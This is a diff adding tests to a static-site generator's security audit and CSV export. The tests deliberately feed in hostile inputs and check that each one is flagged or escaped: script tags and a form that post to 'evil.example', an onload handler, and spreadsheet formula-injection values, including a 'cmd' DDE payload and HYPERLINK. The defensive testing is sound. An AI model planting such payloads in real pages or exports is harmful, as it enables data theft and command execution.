@@ -8,6 +8,7 @@ and audited (see ``tests.hostile``).
 
 from __future__ import annotations
 
+import csv
 import dataclasses
 import json
 import xml.etree.ElementTree as ET
@@ -35,8 +36,10 @@ from tests.hostile import (
     audit_html,
     audit_site,
     has_xml_forbidden_characters,
+    hostile_author,
     hostile_digest,
     hostile_post,
+    hostile_posts,
     site_files,
 )
 
@@ -78,6 +81,31 @@ def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
 )
 def test_the_audit_catches_unsafe_markup(markup: str) -> None:
     assert audit_html(markup, "sessions/a.html", frozenset({"sessions/a.html", "index.html"})).problems
+
+
+@pytest.mark.parametrize(
+    ("markup", "page"),
+    [
+        ('<script src="static/search.js"></script>', "index.html"),  # only the search page has a script
+        ('<script src="static/search.js">alert(1)</script>', "search.html"),
+        ('<script src="https://evil.example/x.js"></script>', "search.html"),
+        ('<script src="static/search.js" onload="x()"></script>', "search.html"),
+        ('<form action="https://evil.example/steal"></form>', "search.html"),
+        ('<input type="password" name="p">', "search.html"),
+    ],
+)
+def test_the_audit_allows_only_the_search_pages_own_furniture(markup: str, page: str) -> None:
+    files = frozenset({"search.html", "index.html", "static/search.js"})
+    assert audit_html(markup, page, files).problems
+
+
+def test_the_audit_accepts_the_search_page_furniture() -> None:
+    markup = (
+        '<form id="search-form" class="search-form" role="search" action="search.html" method="get">'
+        '<input id="search-query" name="q" type="search"><button type="submit">Search</button></form>'
+        '<script src="static/search.js"></script>'
+    )
+    assert audit_html(markup, "search.html", frozenset({"search.html", "static/search.js"})).problems == []
 
 
 def test_the_audit_accepts_safe_markup() -> None:
@@ -140,6 +168,31 @@ def test_sessions_json_is_valid_and_keeps_the_ids(hostile_site: Path) -> None:
     assert {session["id"] for session in data["sessions"]} == set(HOSTILE_SESSION_IDS)
     exported = {post["id"] for s in data["sessions"] for post in s["posts"]} | {p["id"] for p in data["unassigned"]}
     assert set(HOSTILE_POST_IDS) <= exported
+
+
+def test_posts_csv_parses_keeps_every_post_and_holds_no_formula(tmp_path: Path) -> None:
+    formula = dataclasses.replace(
+        hostile_post(7, url="https://ok.example/formula"),
+        id="=HYPERLINK(\"https://evil.example\")",
+        text="+cmd|' /C calc'!A0",
+        title="-2+3",
+        author=dataclasses.replace(hostile_author(7), handle="@SUM(A1:A9)", display_name=" =1+1"),
+    )
+    site = build(tmp_path, hostile_digest([*hostile_posts(), formula]))
+    with (site / "posts.csv").open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert len(rows) == len(hostile_posts()) + 1
+    assert "'=HYPERLINK(\"https://evil.example\")" in {row["id"] for row in rows}
+    for row in rows:
+        for value in row.values():
+            assert not value.lstrip().startswith(("=", "+", "-", "@")), value
+            assert not has_xml_forbidden_characters(value.replace("\n", "").replace("\r", "")), value
+
+
+def test_day_pages_are_audited_too(hostile_site: Path) -> None:
+    pages = [f for f in site_files(hostile_site) if f.startswith("days/")]
+    assert pages  # audit_site covers them with every other page
+    assert audit_site(hostile_site).problems == []
 
 
 # --- feeds -----------------------------------------------------------------------------------------
